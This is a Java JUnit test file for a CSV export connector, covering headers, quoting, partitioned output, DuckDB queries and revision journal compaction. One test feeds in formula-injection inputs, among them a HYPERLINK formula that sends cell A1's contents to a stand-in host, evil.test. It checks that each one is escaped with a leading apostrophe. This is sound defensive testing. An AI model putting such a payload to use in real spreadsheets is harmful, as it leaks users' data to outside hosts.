package io.deskstream.connectors;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CsvExportTest {

    @TempDir
    Path dir;

    @Test
    void csvFilesHaveAHeaderEveryColumnAndParseWithAStandardParser() throws Exception {
        ExportFixture export = new ExportFixture(dir, "csv");
        export.start();
        export.now = Instant.parse("2026-11-02T12:00:00Z");
        export.row("2026-11-02T10:00:00Z", "sales", "email", "Doe, \"Jo\"", 3);
        export.commit();

        Path file;
        try (Stream<Path> files = Files.walk(dir.resolve("format=csv"))) {
            file = files.filter(p -> p.toString().endsWith(".csv")).findFirst().orElseThrow();
        }
        assertThat(file.toString()).contains("format=csv/date=2026-11-02/department=sales/");
        try (Reader in = Files.newBufferedReader(file, StandardCharsets.UTF_8);
             CSVParser parser = CSVParser.parse(in, CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            assertThat(parser.getHeaderNames()).isEqualTo(ExportRow.columns());
            List<CSVRecord> rows = parser.getRecords();
            assertThat(rows).hasSize(1);
            assertThat(rows.get(0).get("agent")).isEqualTo("Doe, \"Jo\"");
            assertThat(rows.get(0).get("bucket")).isEqualTo("2026-11-02T10:00:00Z");
            assertThat(rows.get(0).get("revision")).isEqualTo("1");
            assertThat(rows.get(0).get("replies")).isEqualTo("3");
        }
    }

    @Test
    void textCellsThatASpreadsheetWouldRunAsAFormulaGetALeadingApostropheAsInTheApisCsv() throws Exception {
        ExportFixture export = new ExportFixture(dir, "csv");
        export.start();
        export.now = Instant.parse("2026-11-02T12:00:00Z");
        List<String> formulas = List.of("=HYPERLINK(\"http://evil.test/?\"&A1,\"open\")", "+1", "-2", "@x", "\tx", "\rx");
        for (int i = 0; i < formulas.size(); i++) {
            export.row("2026-11-02T10:00:00Z", formulas.get(i), "email", formulas.get((i + 1) % formulas.size()), 3);
        }
        export.commit();

        List<CSVRecord> rows = new java.util.ArrayList<>();
        try (Stream<Path> files = Files.walk(dir.resolve("format=csv"))) {
            for (Path file : files.filter(p -> p.toString().endsWith(".csv")).toList()) {
                try (Reader in = Files.newBufferedReader(file, StandardCharsets.UTF_8);
                     CSVParser parser = CSVParser.parse(in, CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
                    rows.addAll(parser.getRecords());
                }
            }
        }
        assertThat(rows).hasSize(formulas.size());
        for (CSVRecord row : rows) {
            assertThat(row.get("department")).startsWith("'");
            assertThat(formulas).contains(row.get("department").substring(1));
            assertThat(row.get("agent")).startsWith("'");
            assertThat(formulas).contains(row.get("agent").substring(1));
            assertThat(row.get("channel")).isEqualTo("email");
            assertThat(row.get("replies")).isEqualTo("3");
            assertThat(row.get("bucket")).isEqualTo("2026-11-02T10:00:00Z");
        }
        assertThat(rows).extracting(r -> r.get("department").substring(1)).containsExactlyInAnyOrderElementsOf(formulas);
    }

    @Test
    void duckDbReadsTheCsvDatasetWithItsPartitions() throws Exception {
        ExportFixture export = new ExportFixture(dir, "csv");
        export.start();
        export.now = Instant.parse("2026-11-02T12:00:00Z");
        export.row("2026-11-02T10:00:00Z", "sales", "email", "a-1", 3);
        export.row("2026-11-02T10:00:00Z", "support", "email", "a-2", 4);
        export.commit();
        assertThat(export.query("SELECT department, CAST(sum(replies) AS BIGINT) AS replies FROM $CSV "
                + "GROUP BY department ORDER BY department"))
                .containsExactly(Map.of("department", "sales", "replies", 3L), Map.of("department", "support", "replies", 4L));
    }

    @Test
    void theDaysJournalIsCompactedWhileRunningAndAfterARestartTheNextCorrectionGetsTheNextRevision() throws Exception {
        ExportFixture export = new ExportFixture(dir, "csv");
        export.start();
        export.now = Instant.parse("2026-11-02T12:00:00Z");
        Path journal = dir.resolve("_state/format=csv/" + ExportFixture.TOPIC + "+0/revisions/2026-11-02.jsonl");
        for (int replies = 1; replies <= 1_100; replies++) {
            export.row("2026-11-02T10:00:00Z", "sales", "email", "a-1", replies);
            export.commit();
            assertThat(Files.readAllLines(journal)).hasSizeLessThanOrEqualTo(2 + RevisionJournal.COMPACTION_SLACK);
        }

        ExportFixture restarted = export.restart();
        restarted.row("2026-11-02T10:00:00Z", "sales", "email", "a-1", 5_000);
        restarted.commit();
        assertThat(export.query("SELECT max(revision) AS revision FROM $CSV")).containsExactly(Map.of("revision", 1_101L));
    }
}
